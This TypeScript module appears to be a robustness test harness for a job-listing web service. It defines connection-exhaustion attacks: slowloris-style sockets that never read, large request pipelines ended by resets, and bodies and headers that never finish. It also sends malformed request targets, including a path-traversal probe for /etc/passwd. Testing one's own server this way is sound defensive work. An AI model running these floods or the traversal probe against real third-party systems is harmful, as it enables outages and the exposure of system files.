import { FORM, JSON_TYPE, type Attacks, type AttackOptions, type Sender } from './sender';

/** Clients that do not read, do not finish, or leave. */
export function connectionAttacks({ many, sockets }: Sender, { times }: AttackOptions): Attacks {
  const post = (path: string, type: string, body: string, length = Buffer.byteLength(body)) =>
    `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n${body}`;

  const large = `{${Array.from({ length: 2 }, (_, i) => `a${i}:jobs(pageSize:100){items{jobName cover content salary}}`).join(' ')}}`;

  return {
    'connections that do not read': () =>
      sockets(
        Math.min(times, 200),
        (socket) => socket.write(post('/graphql', JSON_TYPE, JSON.stringify({ query: large }))),
        5000,
      ),
    'connections that do not read, many answers': () =>
      sockets(
        Math.min(times, 200),
        (socket) => socket.write(post('/api/v2.home/jobList', FORM, 'page_num=100').repeat(200)),
        5000,
      ),
    'connections that do not read a file': () =>
      sockets(
        Math.min(times, 200),
        (socket) =>
          socket.write('GET /uploads/demo/line-tour.mp4 HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20)),
        5000,
      ),
    'pipelines of 400, then a reset': () =>
      sockets(
        Math.min(times, 100),
        (socket) => socket.write(post('/api/v2.home/jobList', FORM, 'page_num=100').repeat(400)),
        200,
        (socket) => socket.resetAndDestroy(),
      ),
    'GraphQL pipelines, then a reset': () =>
      sockets(
        Math.min(times, 100),
        (socket) =>
          socket.write(
            post(
              '/graphql',
              JSON_TYPE,
              JSON.stringify({ query: '{jobs(pageSize:100){items{jobName}}}' }),
            ).repeat(200),
          ),
        200,
        (socket) => socket.resetAndDestroy(),
      ),
    '1,000 bodies that never end': () =>
      sockets(
        1000,
        (socket, n) =>
          socket.write(
            post(
              n % 2 ? '/graphql' : '/api/v2.home/jobList',
              JSON_TYPE,
              `{"query":"${'x'.repeat(1_000_000)}`,
              1_048_576,
            ),
          ),
        5000,
      ),
    'headers that never end': () =>
      sockets(
        1000,
        (socket) => socket.write(`POST /graphql HTTP/1.1\r\nHost: x\r\nX: ${'x'.repeat(15_000)}`),
        3000,
      ),
    'odd targets': () =>
      many((n) =>
        sockets(
          1,
          (socket) =>
            socket.write(
              `GET ${['http://[x/', '//x', '*', '/%', '/%c0%80', 'http://x/graphql', '/graphql/../..', '/uploads/%2e%2e%2f%2e%2e/etc/passwd'][n % 8]} HTTP/1.1\r\nHost: x\r\n\r\n`,
            ),
          20,
        ),
      ).then(() => 'sent'),
  };
}
